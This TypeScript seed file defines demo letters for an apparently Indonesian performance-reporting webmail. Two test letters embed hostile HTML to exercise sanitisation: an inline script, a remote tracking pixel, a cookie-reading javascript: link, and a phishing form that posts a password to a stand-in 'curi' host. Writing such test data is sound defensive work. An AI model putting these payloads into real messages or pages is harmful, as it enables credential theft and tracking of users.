/** The letters of the demo: a few weeks of reporting and verifying, between the accounts of contract.md §2. */
import type { LetterFolder, LetterLabel } from '#domain/mail/letter.ts';

export const MAIL_ACCOUNTS = {
  admin: 'Administrator',
  'pelapor.tapin': 'Pelapor Tapin',
  'verifikator.tapin': 'Verifikator Tapin',
  'pelapor.deliserdang': 'Pelapor Deli Serdang',
  'verifikator.deliserdang': 'Verifikator Deli Serdang',
  pimpinan: 'Pimpinan',
  dukungan: 'Dukungan Teknis',
} as const;
export type Account = keyof typeof MAIL_ACCOUNTS;
type Mark = { folder?: LetterFolder; dibaca?: boolean; starred?: boolean; label?: LetterLabel[] };
type Attachment = { name: string; size: number; type: string };
export type ExampleLetter = {
  dari: Account;
  kepada: readonly Account[];
  subjek: string;
  html: string;
  /** Days before the start of the server. */
  day: number;
  /** How it lies in whose mailbox; otherwise unread in the inbox, and read among what was sent. A draft lies with its author only. */
  marks?: Partial<Record<Account, Mark>>;
  attached?: readonly Attachment[];
  /** Earlier letters of the thread, oldest first. */
  answers?: readonly { dari: Account; html: string; day: number }[];
};

const P = 'pelapor.tapin';
const V = 'verifikator.tapin';
const PDS = 'pelapor.deliserdang';
const VDS = 'verifikator.deliserdang';
const READ_MARK = { dibaca: true } as const;
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const pdf = (name: string, size: number): Attachment => ({ name, size, type: 'application/pdf' });
const xlsx = (name: string, size: number): Attachment => ({ name, size, type: XLSX });

export const EXAMPLE_LETTERS: readonly ExampleLetter[] = [
  {
    dari: V,
    kepada: [P],
    subjek: 'Dua indikator TW II perlu dilengkapi sebelum saya setujui',
    day: 0.1,
    html: '<p>Selamat pagi,</p><p>Laporan TW II hampir selesai saya periksa. Masih ada dua hal:</p><ol><li><b>Persentase publikasi yang terbit tepat waktu</b>: realisasi sudah benar, tetapi buktinya baru daftar rencana terbit. Mohon tambahkan tangkapan layar tanggal rilis.</li><li><b>Indeks kepuasan pengguna data</b>: analisisnya menyebut 120 responden, sedangkan lampirannya 112. Mohon diluruskan.</li></ol><p>Begitu keduanya diperbaiki, sisanya bisa langsung saya setujui. Terima kasih.</p>',
    marks: { [P]: { starred: true, label: ['important'] } },
  },
  {
    dari: 'pimpinan',
    kepada: [P, V, PDS, VDS],
    subjek: 'Rapat capaian kinerja: Senin pukul 09.00',
    day: 0.4,
    html: '<p>Bapak dan Ibu,</p><p>Rapat capaian kinerja diadakan <b>Senin pukul 09.00</b>. Tiap satuan kerja menyiapkan:</p><ul><li>dua indikator yang paling jauh dari target,</li><li>sebabnya dalam satu kalimat, dan</li><li>satu tindak lanjut yang bisa selesai sebelum akhir triwulan.</li></ul><p>Angka lain cukup dilihat di dasbor; tidak perlu slide.</p>',
    marks: { [P]: { label: ['company'] }, [V]: { label: ['company'], starred: true } },
  },
  {
    dari: P,
    kepada: [V],
    subjek: 'Re: Bukti survei kebutuhan data',
    day: 0.8,
    html: '<p>Sudah saya unggah ulang, Pak. Berkas lama saya hapus supaya tidak membingungkan; yang berlaku yang bertanggal minggu ini.</p>',
    attached: [pdf('laporan-skd-2026.pdf', 1_482_310)],
    answers: [
      {
        dari: V,
        day: 2.1,
        html: '<p>Bukti survei kebutuhan data yang terlampir masih versi tahun lalu. Bisa diganti?</p>',
      },
      { dari: P, day: 1.6, html: '<p>Siap, saya minta berkas terbarunya ke tim pelayanan dulu.</p>' },
      { dari: V, day: 1.2, html: '<p>Baik. Kalau bisa sebelum Jumat, supaya masuk antrean minggu ini.</p>' },
    ],
    marks: { [V]: READ_MARK },
  },
  {
    dari: 'dukungan',
    kepada: [P, V],
    subjek: 'Uji tampilan surat berformat dari aplikasi lain',
    day: 1.1,
    html: '<style>@import url("https://surat.example/gaya.css"); body { color: #333 }</style><h2 style="color:#1d4ed8">Pemberitahuan pemeliharaan</h2><p>Surat ini sengaja dibuat seperti yang sering datang dari aplikasi lain: bergambar jauh dan bahkan membawa skrip. Yang tampil seharusnya hanya tulisannya.</p><img src="https://surat.example/kop.png" alt="Kop surat Dukungan Teknis" width="320"><table style="border-collapse:collapse"><tr><th style="border:1px solid #999;padding:6px">Layanan</th><th style="border:1px solid #999;padding:6px">Waktu</th></tr><tr><td style="border:1px solid #999;padding:6px">Unggah bukti</td><td style="border:1px solid #999;padding:6px">Sabtu, 20.00–21.00 WIB</td></tr></table><script>document.title = "dibajak"</script><p>Panduan: <a href="https://www.bps.go.id/">bps.go.id</a></p><img src="https://surat.example/pelacak.gif" width="1" height="1">',
  },
  {
    dari: P,
    kepada: [V],
    subjek: 'Laporan TW II BPS Kabupaten Tapin sudah dikirim',
    day: 2.4,
    html: '<p>Laporan TW II sudah saya kirim untuk diperiksa: 17 indikator, 15 terisi, dua belum jatuh tempo.</p><p>Mohon perhatian khusus untuk indikator 2.3, penyebutnya berubah karena ada pemutakhiran kerangka sampel.</p>',
    marks: { [V]: { starred: true, label: ['important'] } },
  },
  {
    dari: V,
    kepada: [P],
    subjek: 'Catatan kecil tentang cara menulis analisis',
    day: 3.2,
    html: '<p>Agar cepat diperiksa, analisis sebaiknya menjawab tiga pertanyaan:</p><ol><li>Berapa angkanya dibanding target?</li><li>Apa yang membuatnya begitu?</li><li>Apa artinya untuk triwulan berikut?</li></ol><blockquote>Contoh: “Dari 14 publikasi, 13 terbit tepat waktu (92,86%). Satu mundur empat hari karena pembahasan angka sementara. Jadwal TW III sudah dimajukan seminggu.”</blockquote>',
    marks: { [P]: { dibaca: true, label: ['personal'] } },
  },
  {
    dari: 'admin',
    kepada: [P, V, PDS, VDS, 'pimpinan', 'dukungan'],
    subjek: 'Jadwal pelaporan TW III dibuka 1 Oktober',
    day: 4.3,
    html: '<p>Pelaporan TW III dibuka tanggal 1 Oktober dan ditutup 15 Oktober pukul 23.59 WIB. Pengiriman setelah itu tetap diterima, tetapi ditandai terlambat.</p><p>Yang berubah dari triwulan lalu: bukti boleh berupa XLSX dan DOCX, paling besar 10 MB.</p>',
    marks: { [P]: { dibaca: true, label: ['company'] }, [V]: { dibaca: true, label: ['company'] } },
    attached: [pdf('jadwal-pelaporan-2026.pdf', 212_480)],
  },
  {
    dari: P,
    kepada: ['admin', V],
    subjek: 'Permintaan: akun untuk pengganti selama cuti',
    day: 5.2,
    html: '<p>Mulai tanggal 20 saya cuti dua minggu. Mohon dibuatkan akun pelapor untuk Ibu Rahmah sebagai pengganti, dengan satuan kerja yang sama.</p>',
    marks: { [V]: READ_MARK },
  },
  {
    dari: V,
    kepada: [P],
    subjek: 'Penyebut indikator kerja sama statistik sektoral',
    day: 6.1,
    html: '<p>Untuk indikator kerja sama statistik sektoral, penyebutnya jumlah OPD yang <i>menyepakati</i> rencana kerja, bukan semua OPD. Untuk tahun ini 24, bukan 31.</p><p>Realisasinya jadi 19 dari 24 = 79,17%.</p>',
    marks: { [P]: { dibaca: true, starred: true } },
    answers: [
      {
        dari: P,
        day: 6.6,
        html: '<p>Saya menghitung 19 dari 31 dan hasilnya jatuh ke merah. Apakah penyebutnya benar?</p>',
      },
    ],
  },
  {
    dari: P,
    kepada: [V, 'pimpinan'],
    subjek: 'Ringkasan capaian TW I untuk rapat',
    day: 7.5,
    html: '<p>Berikut ringkasan TW I:</p><table style="border-collapse:collapse"><tr><th style="text-align:left;padding:4px 12px">Warna</th><th style="text-align:right;padding:4px 12px">Indikator</th></tr><tr><td style="padding:4px 12px">Hijau</td><td style="text-align:right;padding:4px 12px">11</td></tr><tr><td style="padding:4px 12px">Kuning</td><td style="text-align:right;padding:4px 12px">3</td></tr><tr><td style="padding:4px 12px">Merah</td><td style="text-align:right;padding:4px 12px">1</td></tr></table><p>Dua indikator belum dinilai karena targetnya baru ada di TW III.</p>',
    attached: [xlsx('rekap-tw1-tapin.xlsx', 48_912)],
    marks: { [V]: { dibaca: true, label: ['company'] } },
  },
  {
    dari: V,
    kepada: [P],
    subjek: 'Laporan TW I disetujui',
    day: 8.2,
    html: '<p>Laporan TW I sudah saya setujui. Terima kasih atas perbaikannya yang cepat; buktinya rapi sekali kali ini.</p>',
    marks: { [P]: { dibaca: true, starred: true, label: ['personal'] } },
  },
  {
    dari: 'pimpinan',
    kepada: [V, P],
    subjek: 'Mohon penjelasan indikator merah',
    day: 9.3,
    html: '<p>Saya melihat satu indikator merah di dasbor Tapin. Mohon satu paragraf penjelasan dan rencana perbaikannya sebelum Kamis.</p>',
    marks: { [P]: { dibaca: true, label: ['important'] }, [V]: { dibaca: true, label: ['important'] } },
  },
  {
    dari: P,
    kepada: ['pimpinan', V],
    subjek: 'Re: Mohon penjelasan indikator merah',
    day: 9.1,
    html: '<p>Indikator tersebut turun karena dua petugas pindah tugas pada bulan Februari. Pengganti sudah mulai bekerja; kami memperkirakan kembali ke kuning pada TW II dan hijau pada TW III.</p>',
    marks: { [V]: READ_MARK },
    answers: [{ dari: 'pimpinan', day: 9.3, html: '<p>Mohon satu paragraf penjelasan dan rencana perbaikannya.</p>' }],
  },
  {
    dari: 'dukungan',
    kepada: [P, V, PDS, VDS],
    subjek: 'Cara melampirkan bukti dari ponsel',
    day: 10.6,
    html: '<p>Foto dokumen dari ponsel bisa langsung diunggah. Agar terbaca:</p><ul><li>ambil dari atas, bukan miring;</li><li>satu halaman satu foto;</li><li>ukuran berkas paling besar 10 MB.</li></ul><p>Ada pertanyaan? Balas surat ini atau buka halaman bantuan.</p>',
    marks: { [P]: READ_MARK, [V]: { dibaca: true, folder: 'trash' } },
  },
  {
    dari: V,
    kepada: [P],
    subjek: 'Urutan pemeriksaan minggu ini',
    day: 11.4,
    html: '<p>Minggu ini saya memeriksa menurut urutan kirim. Laporan Tapin ada di urutan kedua; perkiraan selesai Rabu siang.</p>',
    marks: { [P]: READ_MARK },
  },
  {
    dari: P,
    kepada: [V],
    subjek: 'Pertanyaan tentang indikator rentang',
    day: 12.3,
    html: '<p>Untuk indikator bertarget rentang 3,5–4,0: kalau realisasi 4,1, apakah capaiannya dihitung terhadap batas atas? Di pratinjau tampil 97,56.</p>',
    marks: { [V]: READ_MARK },
  },
  {
    dari: V,
    kepada: [P],
    subjek: 'Re: Pertanyaan tentang indikator rentang',
    day: 12.1,
    html: '<p>Betul, di atas rentang dibandingkan dengan batas atasnya. 97,56 sudah tepat, dan rumusnya bisa dibaca dengan menekan angka capaian.</p>',
    marks: { [P]: READ_MARK },
    answers: [
      {
        dari: P,
        day: 12.3,
        html: '<p>Kalau realisasi 4,1 pada rentang 3,5–4,0, apakah dihitung terhadap batas atas?</p>',
      },
    ],
  },
  {
    dari: 'admin',
    kepada: [P, V],
    subjek: 'Target tahunan 2026 sudah ditetapkan',
    day: 14.2,
    html: '<p>Target tahunan 2026 sesuai perjanjian kinerja sudah dimasukkan. Mohon diperiksa; bila ada yang keliru, sampaikan dengan alasan dan dokumen dasarnya.</p>',
    attached: [pdf('perjanjian-kinerja-2026.pdf', 884_736), xlsx('target-2026.xlsx', 31_204)],
    marks: { [P]: { dibaca: true, label: ['company', 'important'] }, [V]: { dibaca: true, label: ['company'] } },
  },
  {
    dari: P,
    kepada: [V],
    subjek: 'Izin tidak di kantor hari Kamis',
    day: 15.6,
    html: '<p>Kamis saya mendampingi pencacahan di Kecamatan Binuang dan sulit sinyal. Bila ada yang mendesak, mohon lewat telepon kantor.</p>',
    marks: { [V]: { dibaca: true, label: ['private'] } },
  },
  {
    dari: V,
    kepada: [P],
    subjek: 'Contoh tindak lanjut yang baik',
    day: 16.2,
    html: '<p>Tindak lanjut yang mudah diperiksa punya <b>siapa</b>, <b>apa</b>, dan <b>kapan</b>. Contoh: “Tim diseminasi memajukan pembahasan angka sementara ke minggu pertama, mulai Juli.”</p>',
    marks: { [P]: { dibaca: true, label: ['personal', 'company'] } },
  },
  {
    dari: 'dukungan',
    kepada: [P, V],
    subjek: 'MENANG!!! Klik sebelum tengah malam',
    day: 17.1,
    html: '<p>Contoh surat tipuan untuk pelatihan keamanan. Kata sandi <b>tidak pernah</b> diminta lewat surat; surat seperti ini cukup ditandai sebagai spam.</p><p><a href="javascript:alert(document.cookie)">Ambil hadiah</a></p><form action="https://surat.example/curi"><input name="sandi"><button>Kirim</button></form>',
    marks: { [P]: { folder: 'spam' }, [V]: { folder: 'spam' } },
  },
  {
    dari: P,
    kepada: [V],
    subjek: 'Data pendukung indikator 3.1 menyusul',
    day: 18.3,
    html: '<p>Data pendukung 3.1 masih menunggu tanda tangan kepala kantor. Saya unggah paling lambat besok siang.</p>',
    marks: { [V]: { dibaca: true, folder: 'trash' } },
  },
  {
    dari: V,
    kepada: [P],
    subjek: 'Terima kasih atas diskusi kemarin',
    day: 20.4,
    html: '<p>Terima kasih sudah meluangkan waktu. Catatan saya: definisi operasional indikator 1.2 dan 1.10 akan saya usulkan diperjelas tahun depan.</p>',
    marks: { [P]: { dibaca: true, label: ['private'] } },
  },
  {
    dari: P,
    kepada: [V],
    subjek: 'Konsep analisis indikator 1.4 (belum selesai)',
    day: 1.8,
    html: '<p>Realisasi triwulan ini 88,24% dari target 90%. Yang menahan: …</p>',
    marks: { [P]: { folder: 'draft' } },
  },
  {
    dari: V,
    kepada: [P],
    subjek: 'Konsep catatan untuk laporan TW II',
    day: 2.7,
    html: '<p>Yang sudah baik: bukti lengkap dan bernama jelas. Yang masih perlu: …</p>',
    marks: { [V]: { folder: 'draft' } },
  },
  {
    dari: 'pimpinan',
    kepada: [P, V],
    subjek: 'Apresiasi untuk BPS Kabupaten Tapin',
    day: 22.5,
    html: '<p>Terima kasih: laporan Tapin termasuk yang paling awal dan paling lengkap pada triwulan lalu. Mohon dipertahankan.</p>',
    marks: { [P]: { dibaca: true, starred: true }, [V]: { dibaca: true } },
  },
  {
    dari: P,
    kepada: [V],
    subjek: 'Usul: bukti satu berkas per indikator',
    day: 24.2,
    html: '<p>Bagaimana kalau bukti tiap indikator digabung menjadi satu PDF dengan daftar isi? Pemeriksaan jadi lebih singkat.</p>',
    marks: { [V]: READ_MARK },
  },
  {
    dari: VDS,
    kepada: [PDS],
    subjek: 'Realisasi TW III: tiga indikator belum terisi',
    day: 0.6,
    html: '<p>Tiga indikator renja TW III belum berisi realisasi. Nol juga angka: bila memang belum ada kegiatan, isikan 0 dan jelaskan di kendala.</p>',
    marks: { [PDS]: { starred: true } },
  },
  {
    dari: PDS,
    kepada: [VDS],
    subjek: 'Re: Realisasi TW III',
    day: 0.3,
    html: '<p>Baik, ketiganya saya isi 0 dengan penjelasan: kegiatan baru dimulai pada TW IV sesuai rencana.</p>',
    answers: [{ dari: VDS, day: 0.6, html: '<p>Tiga indikator renja TW III belum berisi realisasi.</p>' }],
  },
];
